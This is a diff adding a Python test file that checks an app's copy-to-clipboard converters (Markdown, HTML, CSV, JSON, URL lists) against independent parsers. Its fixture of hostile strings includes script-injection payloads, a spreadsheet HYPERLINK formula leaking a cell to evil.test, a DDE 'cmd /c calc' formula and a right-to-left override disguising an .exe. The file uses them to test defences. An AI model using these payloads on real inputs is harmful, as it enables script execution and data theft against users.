@@ -1,0 +1,354 @@
+"""Each form is read by a parser of its own, and the result compared with the JSON that the API sent."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import random
+import re
+from html.parser import HTMLParser
+from typing import TYPE_CHECKING, Any, Final
+from urllib.parse import unquote
+
+import pytest
+from markdown_it import MarkdownIt
+
+from app.core.copy_formats.conversion import converted
+from app.core.copy_formats.csv_table import COLUMNS
+from app.core.copy_formats.forms import CopyForm, Share, limit_of, shares_of
+from app.core.copy_formats.urls import copied_urls
+from app.core.decoding import decode_envelope, decode_pack
+from app.core.models import ImageMetadata, PackImage
+
+if TYPE_CHECKING:
+    from collections.abc import Sequence
+
+_HOSTILE: Final = (
+    "A runner at dawn",
+    "He said \"run\", then ran; 'now', a,b",
+    "a | b || c, a table | cell",
+    "[link](https://evil.test) ![image](https://evil.test/x.png) ]( [x]: y",
+    "one\ntwo\r\nthree\n\nfour\ttabbed",
+    "</script><script>alert(1)</script> <img src=x onerror=alert(1)> &amp; &copy; &#60;b> <!-- -->",
+    "\u202egpj.exe\u202c \u200f\u05e9\u05dc\u05d5\u05dd\u200e \u2066\u0639\u0627\u0644\u0645\u2069 🏋️‍♀️💪🏽",
+    "`code` *strong* _emphasis_ __x__ ~~struck~~ \\backslash\\ # heading - item 1. <https://auto.test> $x$",
+    "ends with a backslash \\",
+    "line separator \u2028 and \u2029 paragraph, \ufeff mark, \x85 next line",
+    "NUL \0, escape \x1b[31m, bell \x07",
+    '=HYPERLINK("https://evil.test?"&A1)',
+    "a;=cmd|'/c calc'!A0\n@SUM(1)\n  -1+1\t+2",
+    "",
+)
+_URLS: Final = (
+    "https://cdn.example.com/packs/a/1.jpg",
+    "https://cdn.example.com/1.jpg?a=1&copy=2&copy;=3&amp;b=(1)_x_",
+    "https://cdn.example.com/2.jpg?a=1&copy;=3&amp;b=2&#35;c",
+    "https://cdn.example.com/a b(c)[d]/<e>\"f'g`h*.jpg",
+    "https://cdn.example.com/ä/猫.jpg?q=\\x\\",
+    "https://cdn.example.com/line\nbreak\r\n.jpg",
+    "ftp://example.com/a,b;c|d.jpg",
+    "https://cdn.example.com/(((.jpg",
+    "=https://cdn.example.com/\u202egpj.exe",
+)
+
+
+def pack_images(objects: Sequence[object]) -> tuple[PackImage, ...]:
+    """The images of an answer with these JSON values."""
+    data = {"id": "11111111-1111-1111-1111-111111111111", "name": "Pack", "images": objects}
+    return decode_pack(decode_envelope(json.dumps({"ok": True, "data": data}).encode()).data).images
+
+
+def hostile_objects() -> list[dict[str, Any]]:
+    """An image for each pair of a hostile text and a hostile URL."""
+    return [
+        {
+            "id": f"id-{len(_URLS) * row + column}",
+            "url": url,
+            "metadata": {
+                "status": "completed" if text else "pending",
+                "description": text or None,
+                "keywords": ["calm", text[:12], "=1+1"] if text else [],
+                "model": "m",
+                "generated_at": None,
+                "error": None,
+                "confidence": 0.5,
+            },
+        }
+        for row, text in enumerate(_HOSTILE)
+        for column, url in enumerate(_URLS)
+    ]
+
+
+def on_one_line(url: str) -> str:
+    return "".join(url.splitlines())
+
+
+def without_controls(text: str) -> str:
+    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]", "\N{REPLACEMENT CHARACTER}", text)
+
+
+def texts_of(objects: Sequence[dict[str, Any]], name: str) -> list[str]:
+    return [without_controls(each["metadata"][name] or "") for each in objects]
+
+
+def as_links(urls: Sequence[str]) -> list[str]:
+    """URLs as they are compared after a parser has percent-encoded them."""
+    return [unquote(url) for url in urls]
+
+
+# --- URLs -----------------------------------------------------------------------------------------------------------
+
+
+def test_urls_are_one_on_each_line() -> None:
+    objects = hostile_objects()
+    text = converted(CopyForm.URLS, pack_images(objects))
+
+    assert text.split("\n") == [on_one_line(each["url"]) for each in objects]
+    assert tuple(text.split("\n")) == copied_urls(pack_images(objects))
+
+
+# --- Markdown -------------------------------------------------------------------------------------------------------
+
+
+class _Markdown(MarkdownIt):
+    """A parser that takes URLs of all schemes."""
+
+    def validateLink(self, url: str) -> bool:  # noqa: N802 - the name of the library
+        return True
+
+
+def parsed_markdown(text: str) -> list[tuple[str, str]]:
+    """URL and alternative text of each image; a test fails if the text has anything else."""
+    parser = _Markdown("commonmark").enable(["strikethrough", "table"])
+    images = []
+    for block in parser.parse(text):
+        assert block.type in {"paragraph_open", "inline", "paragraph_close"}, block
+        for token in block.children or ():
+            assert token.type in {"image", "softbreak"}, token
+            if token.type == "image":
+                parts = token.children or []
+                assert {each.type for each in parts} <= {"text", "text_special"}, parts
+                images.append((str(token.attrs["src"]), "".join(each.content for each in parts)))
+    return images
+
+
+def test_markdown_is_read_as_images_with_their_descriptions() -> None:
+    objects = hostile_objects()
+    text = converted(CopyForm.MARKDOWN, pack_images(objects))
+    parsed = parsed_markdown(text)
+
+    assert len(text.split("\n")) == len(parsed) == len(objects)
+    assert [unquote(url) for url, _ in parsed] == [unquote(on_one_line(each["url"])) for each in objects]
+    # Only line breaks are lost.
+    assert [" ".join(alternative.split()) for _, alternative in parsed] == [
+        " ".join(text.split()) for text in texts_of(objects, "description")
+    ]
+
+
+def test_a_cell_of_a_markdown_table_holds_an_image() -> None:
+    parser = MarkdownIt("commonmark").enable("table")
+    for line in converted(CopyForm.MARKDOWN, pack_images(hostile_objects())).split("\n"):
+        tokens = parser.parse(f"| one | two |\n| --- | --- |\n| {line} | second |")
+        cells = [token.content for token in tokens if token.type == "inline"]
+        assert len(cells) == 4, line
+        assert cells[3] == "second"
+
+
+def test_an_ordinary_image_has_no_escapes_in_markdown() -> None:
+    (image,) = pack_images(
+        [{"id": "a", "url": "https://x.test/a_b.jpg?c=1&d=2", "metadata": {"description": "A dog, at 5:00 (p.m.)!"}}]
+    )
+
+    assert converted(CopyForm.MARKDOWN, [image]) == "![A dog, at 5:00 (p.m.)!](https://x.test/a_b.jpg?c=1&d=2)"
+
+
+# --- HTML -----------------------------------------------------------------------------------------------------------
+
+
+class _Tags(HTMLParser):
+    """The attributes of image tags; a test fails if there is anything else."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.images: list[dict[str, str | None]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag == "img"
+        self.images.append(dict(attrs))
+
+    def handle_endtag(self, tag: str) -> None:
+        raise AssertionError(tag)
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+    def handle_data(self, data: str) -> None:
+        assert data.strip() == ""
+
+
+def test_html_is_read_as_images_with_their_descriptions() -> None:
+    objects = hostile_objects()
+    text = converted(CopyForm.HTML, pack_images(objects))
+    tags = _Tags()
+    tags.feed(text)
+    tags.close()
+
+    assert len(text.split("\n")) == len(objects)
+    assert tags.images == [
+        {"src": on_one_line(each["url"]), "alt": description}
+        for each, description in zip(objects, texts_of(objects, "description"), strict=True)
+    ]
+
+
+@pytest.mark.parametrize("form", [CopyForm.HTML, CopyForm.MARKDOWN])
+def test_no_character_reorders_or_hides_source_text(form: CopyForm) -> None:
+    text = converted(form, pack_images(hostile_objects()))
+
+    assert not re.search("[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]", text)
+    assert "&#x202E;gpj.exe" in text
+
+
+# --- CSV ------------------------------------------------------------------------------------------------------------
+
+
+def without_apostrophes(cell: str) -> str:
+    """A cell without the apostrophes that keep it from being a formula."""
+    return re.sub("(^|[\t\r\n;])([ \xa0]*)'(?=[=+\\-@\uff1d\uff0b\uff0d\uff20])", r"\1\2", cell)
+
+
+def test_csv_is_read_as_a_table_with_every_field() -> None:
+    objects = hostile_objects()
+    text = converted(CopyForm.CSV, pack_images(objects))
+    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
+
+    assert tuple(rows[0]) == COLUMNS == ("position", "id", "url", "status", "description", "keywords")
+    assert [row["position"] for row in rows] == [str(number) for number in range(1, len(objects) + 1)]
+    assert [row["id"] for row in rows] == [each["id"] for each in objects]
+    assert [without_apostrophes(row["url"]) for row in rows] == [on_one_line(each["url"]) for each in objects]
+    assert [row["status"] for row in rows] == [each["metadata"]["status"] for each in objects]
+    assert [without_apostrophes(row["description"]) for row in rows] == texts_of(objects, "description")
+    assert [without_apostrophes(row["keywords"]) for row in rows] == [
+        without_controls(", ".join(each["metadata"]["keywords"])) for each in objects
+    ]
+
+
+def test_records_of_csv_end_with_cr_and_lf_except_the_last() -> None:
+    (image,) = pack_images([{"id": "a", "url": "https://x.test/a.jpg"}])
+
+    assert converted(CopyForm.CSV, [image]) == (
+        "position,id,url,status,description,keywords\r\n1,a,https://x.test/a.jpg,,,"
+    )
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_is_a_formula_however_the_table_is_split(delimiter: str) -> None:
+    text = converted(CopyForm.CSV, pack_images(hostile_objects()))
+    # As pasted text, which is split at line breaks, and as a file.
+    lines = [line.split(delimiter) for line in re.split("[\r\n]+", text)] if delimiter != "," else []
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+    cells = [cell for row in (*lines, *rows) for cell in row]
+
+    assert len(cells) > len(hostile_objects())
+    assert [cell for cell in cells if cell.strip(' \xa0"').startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))] == []
+
+
+# --- JSON -----------------------------------------------------------------------------------------------------------
+
+
+def test_json_is_what_the_api_sent() -> None:
+    objects = hostile_objects()
+    objects[3]["metadata"]["description"] = "a lone surrogate \ud800"
+
+    assert json.loads(converted(CopyForm.JSON, pack_images(objects))) == objects
+
+
+def test_entries_that_are_no_images_are_in_json_as_they_were_sent() -> None:
+    entries: list[object] = [{"id": 5}, None, "text", [1, {"a": None}], {"id": "a", "url": "https://x.test/a.jpg"}]
+
+    assert json.loads(converted(CopyForm.JSON, pack_images(entries))) == entries
+
+
+def test_an_entry_that_is_no_json_is_a_text() -> None:
+    image = PackImage(1, "", "", None, is_readable=False, raw=b'{"a": NaN}')
+
+    assert json.loads(converted(CopyForm.JSON, [image])) == ['{"a": NaN}']
+
+
+# --- The vendor's forms ---------------------------------------------------------------------------------------------
+
+
+def test_pinned_images_are_ten_urls_by_slide() -> None:
+    objects = hostile_objects()
+    value = json.loads(converted(CopyForm.PINNED_IMAGES, pack_images(objects)))
+
+    assert value == {str(slide): on_one_line(each["url"]) for slide, each in enumerate(objects[:10])}
+
+
+def test_custom_images_are_ten_urls_and_ids_by_slide() -> None:
+    objects = hostile_objects()
+    value = json.loads(converted(CopyForm.CUSTOM_IMAGES, pack_images(objects)))
+
+    assert value == {
+        str(slide): {"image_url": on_one_line(each["url"]), "image_id": each["id"]}
+        for slide, each in enumerate(objects[:10])
+    }
+
+
+def test_a_list_of_pack_images_has_a_hundred_urls() -> None:
+    objects = hostile_objects()
+    assert len(objects) > 100
+    value = json.loads(converted(CopyForm.PACK_IMAGES, pack_images(objects)))
+
+    assert value == [on_one_line(each["url"]) for each in objects[:100]]
+
+
+# --- All forms ------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("form", list(CopyForm))
+def test_the_share_is_what_the_text_holds(form: CopyForm) -> None:
+    objects: list[object] = [
+        {"id": "a", "url": "https://x.test/a.jpg"},
+        {"id": "no URL", "url": "\n"},
+        None,
+        *({"id": str(number), "url": f"https://x.test/{number}.jpg"} for number in range(120)),
+    ]
+    images = pack_images(objects)
+    share = shares_of(images)[form]
+    text = converted(form, images)
+
+    assert share.available == (123 if form in {CopyForm.CSV, CopyForm.JSON} else 121)
+    assert share.held == (limit_of(form) or share.available)
+    held = share.held - (1 if form in {CopyForm.CSV, CopyForm.JSON} else 0)
+    assert text.count("https://x.test/") == held - (1 if form in {CopyForm.CSV, CopyForm.JSON} else 0)
+
+
+@pytest.mark.parametrize("form", list(CopyForm))
+def test_images_are_in_pack_order_and_nothing_follows(form: CopyForm) -> None:
+    images = pack_images([{"id": name, "url": f"https://x.test/{name}.jpg"} for name in "abcdef"])
+    shuffled = list(images)
+    random.Random(7).shuffle(shuffled)
+    text = converted(form, shuffled)
+
+    assert re.findall(r"x\.test/(\w)", text) == list("abcdef")
+    assert not text.endswith("\n")
+    assert text == converted(form, images)
+
+
+@pytest.mark.parametrize("form", list(CopyForm))
+def test_no_images_are_no_text(form: CopyForm) -> None:
+    assert converted(form, []) == ""
+    assert shares_of([])[form] == Share(0, 0)
+    assert (converted(form, pack_images([None])) == "") == (form not in {CopyForm.CSV, CopyForm.JSON})
+
+
+@pytest.mark.parametrize("form", [form for form in CopyForm if form is not CopyForm.JSON])
+def test_no_form_has_a_nul_or_what_cannot_be_encoded(form: CopyForm) -> None:
+    metadata = ImageMetadata("\ud800", "a\0b\udfffc\x1b", ("\0", "\ud800"))
+    image = PackImage(1, "i\0\ud800", "https://x.test/\0\ud800\x1b.jpg", metadata, is_readable=True, raw=b"{}")
+    text = converted(form, [image])
+
+    assert "\0" not in text
+    assert "\x1b" not in text
+    text.encode()
